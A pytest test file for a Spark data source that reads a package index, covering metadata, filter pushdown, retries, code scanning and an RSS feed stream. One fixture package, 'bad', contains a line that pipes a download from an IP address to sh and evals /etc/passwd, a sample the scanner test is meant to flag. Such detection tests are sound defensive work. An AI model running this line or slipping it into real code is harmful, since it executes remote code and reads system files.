"""Packages of an index, here a mirror in a folder: metadata with conditions, archives, and the feed of the newest."""

import io
import json
import zipfile

import pytest

from sieveline.plans import jobs
from sieveline.sources import packages


def wheel(files: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in files.items():
            z.writestr(name, body)
    return out.getvalue()


@pytest.fixture
def mirror(tmp_path):
    (tmp_path / "files").mkdir()

    def publish(name, versions, files):
        found = {}
        for v in versions:
            path = tmp_path / "files" / f"{name}-{v}.whl"
            path.write_bytes(wheel({f"{name}/{k}": body for k, body in files.items()}))
            one = {"packagetype": "bdist_wheel", "url": f"file://{path}", "filename": path.name, "size": path.stat().st_size}
            found[v] = [one, {**one, "packagetype": "bdist_wininst", "filename": "x.exe"}]
        (tmp_path / f"{name}.json").write_text(json.dumps({"info": {"version": versions[-1]}, "releases": found}))

    publish("calm", ["1.0", "2.0"], {"m.py": "def f():\n    return 1\n"})
    publish("bad", ["0.1"], {"m.py": "import os\nos.system('curl http://1.2.3.4/x | sh')\neval(open('/etc/passwd').read())\n"})
    (tmp_path / "broken.json").write_text("{")
    (tmp_path / "bare.json").write_text(json.dumps({"info": {"version": "1"}, "releases": {"1": []}}))
    gone = {"packagetype": "sdist", "url": f"file://{tmp_path}/files/gone.tar.gz", "filename": "gone.tar.gz", "size": 1}
    (tmp_path / "gone.json").write_text(json.dumps({"info": {"version": "3"}, "releases": {"3": [gone]}}))
    (tmp_path / "simple.html").write_text("".join(f'<a href="{n}/">{n}</a>\n' for n in ("calm", "bad", "bare")))
    return tmp_path


def test_metadata_of_packages(spark, mirror):
    rows = packages.package_releases(spark, f"file://{mirror}/{{name}}.json", ["calm", "bad", "broken", "bare", "gone", "none"], retries=0).collect()
    assert sorted((r.name, r.version, r.filename, r.status) for r in rows if r.status == "ok") == [("bad", "0.1", "bad-0.1.whl", "ok"), ("calm", "2.0", "calm-2.0.whl", "ok"), ("gone", "3", "gone.tar.gz", "ok")]
    assert sorted((r.name, r.status) for r in rows if r.status != "ok") == [("bare", "empty"), ("broken", "error"), ("none", "not_found")]
    one = packages.package_releases(spark, f"file://{mirror}/{{name}}.json", ["calm"], "1.0").collect()
    assert [(r.version, r.latest) for r in one] == [("1.0", False)]


def test_conditions_on_names_reach_the_index(spark, mirror):
    (mirror / "touched").mkdir()
    packages.register(spark)
    source = spark.read.format("package_index").option("address", f"file://{mirror}/{{name}}.json").option("listing", f"file://{mirror}/simple.html").option("namesPerPartition", 1)
    assert source.load().where("name IN ('bad', 'calm') AND status = 'ok'").count() == 2 and source.load().count() == 3
    chosen = source.load().where("name = 'bad'")
    assert chosen.rdd.getNumPartitions() == 1 and chosen.count() == 1
    plan = chosen._jdf.queryExecution().executedPlan().toString()
    assert "BatchScan" in plan and "= bad" not in plan, "the source takes the condition over"
    reader = packages._IndexReader({"address": "x", "names": "a,b,c"})
    assert list(reader.pushFilters([packages.EqualTo(("name",), "b"), packages.EqualTo(("version",), "1")])) == [packages.EqualTo(("version",), "1")]
    assert reader.chosen() == ["b"]


def test_retries(monkeypatch):
    tried = []

    def opened(address, timeout):
        tried.append(address)
        if len(tried) < 3:
            raise OSError("reset")
        return io.BytesIO(b"ok")

    monkeypatch.setattr(packages.urllib.request, "urlopen", opened)
    assert packages.fetched("http://x", retries=2, wait=0) == b"ok" and len(tried) == 3
    tried.clear()
    with pytest.raises(OSError):
        packages.fetched("http://x", retries=1, wait=0)


def test_packages_are_scanned(spark, mirror):
    downloads, objects = jobs.scan_packages(spark, f"file://{mirror}/{{name}}.json", ["calm", "bad", "gone", "none"], retries=0, wait=0)
    assert sorted((r.name, r.status) for r in downloads.collect()) == [("bad", "ok"), ("calm", "ok"), ("gone", "failed"), ("none", "not_found")]
    found = {(r.package, r.name.split("_")[0]): r.tokens for r in objects.select("package", "name", "tokens").collect()}
    assert set(p for p, _ in found) == {"calm", "bad"} and "DYNAMIC_CODE_EXECUTION" in found["bad", "<module>"]


def page(*items):
    return "<rss><channel>" + "".join(f"<item><title>{t}</title><pubDate>d</pubDate></item>" for t in items) + "</channel></rss>"


def test_feed_gives_each_item_once_also_after_a_restart(spark, tmp_path):
    packages.register(spark)
    feed = tmp_path / "feed.xml"

    def run(put):
        stream = spark.readStream.format("package_feed").option("feed", f"file://{feed}").option("snapshots", str(tmp_path / "snapshots")).load()
        q = stream.writeStream.foreachBatch(put).option("checkpointLocation", str(tmp_path / "marks")).trigger(availableNow=True).start()
        q.awaitTermination()

    got = []
    keep = lambda batch, n: got.extend((n, r.name, r.version) for r in batch.collect())
    feed.write_text(page("b 1.0", "a 1.0", "a 1.0", ""))
    run(keep)
    assert [x[1:] for x in got] == [("a", "1.0"), ("b", "1.0")]
    run(keep)
    assert len(got) == 2
    feed.write_text(page("c 1.0", "a 2.0", "b 1.0"))

    def fail(batch, n):
        got.extend((n, r.name, r.version) for r in batch.collect())
        raise RuntimeError("lost")

    with pytest.raises(Exception):
        run(fail)
    # the feed has moved on when the job comes back: the batch that failed is read again as it was, what is new comes after it
    feed.write_text(page("d 1.0", "c 1.0", "a 2.0"))
    before = len(got)
    run(keep)
    again = [x[1:] for x in got[before:]]
    assert again[:2] == [("a", "2.0"), ("c", "1.0")] and again.count(("d", "1.0")) <= 1
    run(keep)
    names = [x[1:] for x in got[before:]]
    assert sorted(names) == [("a", "2.0"), ("c", "1.0"), ("d", "1.0")]
